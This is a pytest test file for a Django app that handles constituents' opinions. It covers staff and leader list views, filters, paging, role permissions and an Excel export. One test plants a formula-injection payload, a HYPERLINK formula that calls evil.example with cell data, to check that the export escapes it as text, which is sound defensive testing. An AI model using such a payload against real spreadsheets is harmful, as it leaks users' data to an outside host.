"""Staff and leaders: every opinion of the congress, filtered, sorted and paged, with the
staff's Excel export; staff act on any opinion like an operator, leaders only read."""

from __future__ import annotations

import datetime
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from renda.opinions import actions as A
from renda.opinions.models import ConstituentOpinion

from .conftest import MONDAY, on
from .test_pages_opinions_station import client_for

LIST = reverse("opinions:opinions")
EXPORT = reverse("opinions:opinion_export")


def pks(client, **params):
    page = client.get(LIST, params)
    assert page.status_code == 200
    return [o.pk for o in page.context["page_obj"].object_list]


def online(congress, **kw):
    kw.setdefault("category", "environment")
    kw.setdefault("content", "小区垃圾清运不及时。")
    kw.setdefault("constituent", A.Constituent(name="钱先生", phone="13900001111"))
    return A.opinion_submit_online(congress=congress, client_ip="10.0.0.9", **kw)


@pytest.fixture
def mix(cast, record, org, congress):
    """Opinions of every source, state and station, on three days of 2024 and one of 2023."""
    with on(datetime.date(2023, 12, 20)):
        old = record(category="education", content="学校门口堵车")
    with on(MONDAY):
        referred = record(category="roads", content="红绿灯太短")
        A.opinion_refer(opinion=referred, actor=cast["station"], unit=org["unit"])
        other = record(actor=cast["other_station"], station=org["other_station"], content="停水")
    with on(MONDAY + datetime.timedelta(days=2)):
        web = online(congress)
        A.opinion_resolve(opinion=web, actor=cast["staff"], outcome="已协调环卫处清运。")
    return {"old": old, "referred": referred, "other": other, "web": web}


def test_staff_see_every_opinion_of_the_congress_newest_first(cast, mix, other_congress):
    stranger = online(other_congress, content="别的城市的")
    rows = pks(client_for(cast["staff"]))
    assert rows == [mix["web"].pk, mix["other"].pk, mix["referred"].pk, mix["old"].pk]
    assert stranger.pk not in rows


def test_the_filters(cast, mix, org):
    client = client_for(cast["staff"])
    assert pks(client, state="referred") == [mix["referred"].pk]
    assert pks(client, category="education") == [mix["old"].pk]
    assert pks(client, source="online") == [mix["web"].pk]
    assert pks(client, station=org["other_station"].pk) == [mix["other"].pk]
    assert pks(client, unit=org["unit"].pk) == [mix["referred"].pk]
    assert pks(client, year=2023) == [mix["old"].pk]
    assert pks(client, received_from="2024-03-05", received_to="2024-03-31") == [mix["web"].pk]
    assert pks(client, q="停水") == [mix["other"].pk]
    assert pks(client, q=mix["web"].receipt_code) == [mix["web"].pk]
    # A bad value is reported beside its filter and ignored.
    page = client.get(LIST, {"station": "99999", "year": "abc"})
    assert page.status_code == 200 and {"station", "year"} <= set(page.context["form"].errors)
    assert len(page.context["page_obj"].object_list) == 4
    with on(MONDAY + datetime.timedelta(days=60)):
        client = client_for(cast["staff"])
        assert pks(client, overdue="yes") == [mix["referred"].pk]
        assert mix["referred"].pk not in pks(client, overdue="no")


def test_the_sort_keys(cast, mix):
    client = client_for(cast["staff"])
    assert pks(client, sort="received")[0] == mix["old"].pk
    assert pks(client, sort="category")[0] == mix["old"].pk  # education < environment …
    assert pks(client, sort="due")[0] == mix["referred"].pk  # the only one with a due date
    assert pks(client, sort="nonsense") == pks(client)  # ignored


def test_leaders_cannot_search_by_receipt_code(cast, mix):
    assert pks(client_for(cast["leader"]), q=mix["web"].receipt_code) == []


def test_the_list_pages_fifty_at_a_time(cast, record):
    with on(MONDAY):
        for i in range(53):
            record(content=f"第{i}条")
    client = client_for(cast["staff"])
    assert len(pks(client)) == 50 and len(pks(client, page=2)) == 3
    assert len(pks(client, page="999")) == 3  # past the end: the last page


def test_staff_export_the_filtered_list_with_contact_details(cast, mix):
    r = client_for(cast["staff"]).get(EXPORT, {"state": "referred"})
    assert r.status_code == 200
    assert r["Content-Type"].startswith("application/vnd.openxmlformats")
    assert "attachment" in r["Content-Disposition"]
    sheet = load_workbook(io.BytesIO(r.content)).active
    rows = list(sheet.iter_rows(min_row=4, values_only=True))
    assert len(rows) == 1
    row = rows[0]
    assert row[0] == mix["referred"].pk and "红绿灯太短" in row[6]
    assert "赵大妈" in row and "13812345678" in row and mix["referred"].receipt_code in row
    assert "referred" not in sheet["A2"].value  # the filters shown by their labels


def test_the_export_follows_every_filter(cast, mix):
    r = client_for(cast["staff"]).get(EXPORT, {"year": "2024", "sort": "received"})
    sheet = load_workbook(io.BytesIO(r.content)).active
    ids = [row[0] for row in sheet.iter_rows(min_row=4, values_only=True)]
    assert ids == [mix["referred"].pk, mix["other"].pk, mix["web"].pk]


@pytest.mark.parametrize("who", ["leader", "deputy", "handler", "station"])
def test_only_staff_export(cast, mix, who):
    assert client_for(cast[who]).get(EXPORT).status_code == 403


@pytest.mark.parametrize("who", ["deputy", "handler", "station"])
def test_the_congress_list_is_for_staff_and_leaders(cast, who):
    assert client_for(cast[who]).get(LIST).status_code == 403


def test_a_deputy_sees_no_opinion(cast, mix):
    client = client_for(cast["deputy"])
    url = reverse("opinions:opinion", args=[mix["referred"].pk])
    assert client.get(url).status_code == 404


def test_staff_of_another_congress_get_404(cast, mix):
    client = client_for(cast["stranger"])
    assert client.get(reverse("opinions:opinion", args=[mix["web"].pk])).status_code == 404
    assert pks(client) == []


def test_staff_handle_an_online_opinion_without_a_station(cast, congress, org):
    opinion = online(congress)
    client = client_for(cast["staff"])
    page = client.get(reverse("opinions:opinion", args=[opinion.pk])).content.decode()
    assert 'id="action-refer"' in page and "钱先生" in page
    url = reverse("opinions:opinion_act", args=[opinion.pk, "refer"])
    assert client.post(url, {"refer-unit": org["other_unit"].pk}).status_code == 302
    assert ConstituentOpinion.objects.get(pk=opinion.pk).unit == org["other_unit"]


def test_leaders_read_but_change_nothing(cast, mix):
    client = client_for(cast["leader"])
    assert len(pks(client)) == 4
    page = client.get(reverse("opinions:opinion", args=[mix["referred"].pk]))
    assert page.status_code == 200 and not page.context["action_forms"]
    assert b"data-export" not in client.get(LIST).content
    url = reverse("opinions:opinion_act", args=[mix["other"].pk, "dismiss"])
    assert client.post(url, {"dismiss-reason": "x"}).status_code == 403
    assert ConstituentOpinion.objects.get(pk=mix["other"].pk).state == "recorded"


def test_the_menus(cast):
    from renda.core.navigation import menu_for

    def names(who):
        return {i["name"] for i in menu_for(cast[who])}

    assert {"opinions:opinions", "opinions:keys"} <= names("staff")
    assert "opinions:opinions" in names("leader") and "opinions:keys" not in names("leader")
    assert {"opinions:opinion_record", "opinions:opinion_station"} <= names("station")
    assert "opinions:opinion_unit" in names("handler")
    public = {i["name"] for i in menu_for(None)}
    assert {"opinions:public_opinion_submit", "opinions:public_opinion_track"} <= public


def test_an_anonymous_formula_reaches_the_export_as_text(cast, congress):
    evil = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    with on(MONDAY):
        online(congress, content=evil, constituent=A.Constituent(name="=1+1", phone="+8613900"))
    r = client_for(cast["staff"]).get(EXPORT)
    sheet = load_workbook(io.BytesIO(r.content)).active
    cells = [c for row in sheet.iter_rows(min_row=4) for c in row]
    assert not [c for c in cells if c.data_type == "f"]
    assert "'" + evil in [c.value for c in cells] and "'=1+1" in [c.value for c in cells]


def test_a_referred_opinion_tells_staff_whom_it_waits_for_not_that_it_waits_for_them(
    cast, record, org
):
    """Staff follow a referred opinion's answer deadline (they are warned), but the answer is
    the unit's to give: the page names the unit, and tells only the unit "waiting for you".
    The opinion's words sit inside that sentence without their full stop ("不便。," never)."""
    with on(MONDAY):
        referred = record(content="路灯不亮，出行不便。")
        A.opinion_refer(opinion=referred, actor=cast["staff"], unit=org["unit"])
    url = reverse("opinions:opinion", args=[referred.pk])
    with on(MONDAY):
        staff = client_for(cast["staff"]).get(url, HTTP_ACCEPT_LANGUAGE="en")
        unit = client_for(cast["handler"]).get(url, HTTP_ACCEPT_LANGUAGE="en")
    assert staff.context["my_deadlines"] == []
    (watched,) = staff.context["watched_deadlines"]
    html = staff.content.decode()
    assert 'id="waiting-for-you"' not in html
    assert f"Waiting for {org['unit'].name}:" in html
    assert "出行不便, by" in html and "。," not in html
    (mine,) = unit.context["my_deadlines"]
    assert mine.pk == watched.pk
    assert 'id="waiting-for-you"' in unit.content.decode()
